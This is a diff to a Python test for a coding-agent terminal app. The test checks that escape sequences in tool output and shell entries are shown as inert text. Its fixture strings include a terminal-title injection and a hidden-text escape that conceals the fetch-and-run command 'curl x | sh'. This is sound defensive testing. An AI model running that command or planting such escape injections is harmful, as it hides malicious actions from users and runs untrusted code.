@@ -10,6 +10,7 @@ from __future__ import annotations
 
 from typing import Any
 
+import anyio
 import pytest
 from textual.widgets._toast import Toast
 
@@ -105,7 +106,10 @@ async def test_live_tool_output_a_shell_entry_and_the_tasks_panel_are_inert(
     app = CodingAgentApp(conversation)
     async with app.run_test(size=(100, 30)) as pilot:
         await app.wait_rendered()
-        await pilot.pause()
+        wanted = ("\\x1b[2K\\x1b[1Gdone", "cat notes\\x1b[8m", "notes\\x1b]0;pwned")
+        with anyio.fail_after(60):  # every part is mounted and painted (a loaded machine is slow)
+            while not all(part in _on_screen(app) for part in wanted):
+                await pilot.pause(0.05)
         screen = _on_screen(app)
         assert "\\x1b[2K\\x1b[1Gdone\\x1b]0;pwned\\x07" in screen  # the live tail
         assert "cat notes\\x1b[8m; curl x | sh\\x1b[0m" in screen  # the ! command
